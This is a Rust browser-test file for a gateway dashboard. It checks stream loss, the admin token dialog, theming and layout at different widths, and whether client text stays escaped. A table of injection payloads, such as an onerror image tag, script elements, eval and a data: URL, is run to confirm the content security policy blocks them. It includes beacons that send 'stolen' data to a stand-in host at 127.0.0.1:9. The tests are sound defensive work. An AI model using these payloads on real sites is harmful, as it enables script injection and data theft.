//! The states of the page: no rules, no token, no gateway, another theme, a narrow screen.

use serde_json::{Value, json};

use super::super::Browser;
use super::fixture::{
    Dashboard, ENTER, ESCAPE, assert_no_problem, resize, set_theme, wait_until_live,
};
use super::quality::is_accessible_everywhere;
use crate::harness::{Folder, wait_until};

#[test]
fn a_lost_stream_is_shown_and_recovers() {
    let (dashboard, browser) = (Dashboard::start(), Browser::start());
    dashboard.open(&browser);
    dashboard.gateway.signal("STOP");
    browser.wait_for_text("Stream lost.");
    assert_eq!(
        browser.run("return document.documentElement.dataset.state"),
        "stale"
    );
    browser.save_screenshot("dashboard-lost");
    is_accessible_everywhere(&browser);
    dashboard.gateway.signal("CONT");
    wait_until_live(&browser);
    wait_until("the banner is hidden", || {
        browser.run("return document.querySelector('#banner').hidden") == true
    });
    assert_no_problem(&browser);
}

#[test]
fn the_page_asks_for_the_token() {
    let folder = Folder::new();
    let token = folder.write("admin.token", "open sesame\n");
    let guard = format!("[admin]\ntoken_file = {token:?}");
    let dashboard = Dashboard::with(|config| config.replace("[admin]", &guard));
    let browser = Browser::start();
    dashboard.open_at(&browser, 1440, 900);
    browser.wait_for_text("Admin token");
    browser.press(ESCAPE);
    browser.wait_for_text("Admin token");
    browser.save_screenshot("dashboard-token");
    is_accessible_everywhere(&browser);
    let enter = |token: &str| {
        browser.find("#token-dialog input").unwrap().enter(token);
        browser.press(ENTER);
    };
    enter("wrong");
    browser.wait_for_text("The gateway refused this token.");
    enter("open sesame");
    wait_until_live(&browser);
    assert_eq!(browser.url(), dashboard.url());
    let stored = browser.run("return [Object.values(localStorage).join(), document.cookie]");
    assert_eq!(stored, json!(["auto", ""]));
    assert_no_problem(&browser);
}

#[test]
fn a_gateway_without_rules_shows_a_first_rule() {
    let dashboard = Dashboard::with(|config| {
        let (start, _) = config.split_once("[[rules]]").unwrap();
        start.to_owned()
    });
    let browser = Browser::start();
    dashboard.open(&browser);
    browser.wait_for_text("No rules yet");
    browser.save_screenshot("dashboard-empty");
    is_accessible_everywhere(&browser);
    dashboard.gateway.reload(&dashboard.config());
    wait_until("the rules are shown", || {
        browser
            .find("[aria-controls=rule-panel-stuffing]")
            .is_some()
    });
    assert_no_problem(&browser);
}

#[test]
fn the_theme_follows_the_system_and_the_button() {
    let (dashboard, browser) = (Dashboard::start(), Browser::start());
    set_theme(&browser, "dark");
    dashboard.open(&browser);
    let background = || browser.run("return getComputedStyle(document.body).backgroundColor");
    assert_eq!(background(), "rgb(12, 16, 20)");
    browser.find("#theme").unwrap().click();
    assert_eq!(background(), "rgb(242, 244, 246)");
    browser.find("#theme").unwrap().click();
    set_theme(&browser, "light");
    assert_eq!(background(), "rgb(12, 16, 20)");
    // The choice outlives a reload of the page.
    dashboard.open(&browser);
    assert_eq!(background(), "rgb(12, 16, 20)");
    browser.save_screenshot("dashboard-dark");
    assert_no_problem(&browser);
}

#[test]
fn the_page_never_scrolls_sideways() {
    let (dashboard, browser) = (Dashboard::start(), Browser::start());
    let _traffic = dashboard.attack();
    dashboard.open(&browser);
    browser
        .find("[aria-controls=rule-panel-stuffing]")
        .unwrap()
        .click();
    wait_until("a ban is listed", || {
        browser.find(".bans tbody tr").is_some() && browser.find(".keys tbody tr").is_some()
    });
    for width in [360, 900, 1181, 1280, 1366, 1439, 1440] {
        resize(&browser, width, 900);
        let wide = "return [...document.querySelectorAll('#strip .tile')]
            .filter((tile) => tile.scrollWidth > tile.clientWidth).map((tile) => tile.id)";
        assert_eq!(browser.run(wide), json!([]), "{width}");
        let hidden =
            "const page = document.documentElement; return page.scrollWidth - page.clientWidth";
        browser.save_screenshot(&format!("dashboard-{width}"));
        assert_eq!(browser.run(hidden), 0, "{width}");
    }
    assert_no_problem(&browser);
}

#[test]
fn text_of_clients_never_becomes_markup() {
    let (dashboard, browser) = (Dashboard::start(), Browser::start());
    dashboard.open(&browser);
    let hostile = "<img src=x onerror=alert(1)>";
    let client = dashboard
        .client("203.0.113.7")
        .header("user-agent", hostile)
        .wants(401);
    wait_until("the user agent is shown as text", || {
        client.clone().post("/login").times(6);
        browser.text().contains(hostile)
    });
    assert_eq!(
        browser.run("return document.querySelectorAll('img').length"),
        0
    );
    assert_no_problem(&browser);
}

/// What an attacker would do with a mistake in the page, and the directive of the content security policy that stops it.
const INJECTIONS: [(&str, &str); 8] = [
    (
        "document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'",
        "require-trusted-types-for",
    ),
    (
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
        "require-trusted-types-for",
    ),
    (
        "document.createElement('script').src = 'data:text/javascript,window.ran = 1'",
        "require-trusted-types-for",
    ),
    // Later, because the driver itself may evaluate strings.
    (
        "setTimeout(() => eval('window.ran = 1'))",
        "require-trusted-types-for",
    ),
    ("setTimeout('window.ran = 1')", "require-trusted-types-for"),
    (
        "document.body.setAttribute('style', 'display: none')",
        "style-src-attr",
    ),
    ("new Image().src = 'http://127.0.0.1:9/?stolen'", "img-src"),
    (
        "const f = document.createElement('form'); f.action = 'http://127.0.0.1:9/'; document.body.append(f); f.submit()",
        "form-action",
    ),
];

#[test]
fn the_policy_stops_what_is_injected() {
    let (dashboard, browser) = (Dashboard::start(), Browser::start());
    dashboard.open(&browser);
    for (injection, directive) in INJECTIONS {
        browser.run("window.problems = []");
        browser.run(&format!("try {{ {injection} }} catch {{}}"));
        let reported = || browser.run("return window.problems.join(' ')");
        wait_until(&format!("{injection} is reported"), || {
            reported()
                .as_str()
                .is_some_and(|text| text.contains(directive))
        });
    }
    let elsewhere = browser.wait_for(
        "return await fetch('http://127.0.0.1:9/').then(() => 'sent', (error) => error.name);",
    );
    assert_eq!(elsewhere, "TypeError");
    assert_eq!(browser.run("return window.ran ?? null"), Value::Null);
    assert_eq!(browser.url(), dashboard.url());
}
